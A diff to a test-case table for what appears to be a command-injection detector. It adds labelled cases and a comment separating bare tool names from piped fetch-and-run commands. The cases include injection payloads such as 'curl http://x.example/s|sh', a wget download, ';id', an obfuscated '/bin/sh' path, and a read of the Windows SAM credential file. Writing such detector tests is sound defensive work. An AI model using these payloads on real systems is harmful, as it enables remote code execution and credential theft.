@@ -249,6 +249,11 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["rce", "x;sleep 5", true],
   ["rce", "|\n\ttype\n\t%SYSTEMROOT%\\repair\\SAM", true],
   ["rce", "foo;id", true],
+  // a shell or interpreter bare reads the server's empty input; after a pipe, what the pipe feeds it
+  ["rce", "code;python;tutorial", false],
+  ["rce", "curl http://x.example/s|sh", true],
+  ["rce", "a;wget;b", false],
+  ["rce", "a;wget http://x.example/s", true],
   ["rce", "${PATH:0:1}bin${PATH:0:1}sh", true],
   ["rce", "a=${@}", true],
   ["rce", "x ${", true],
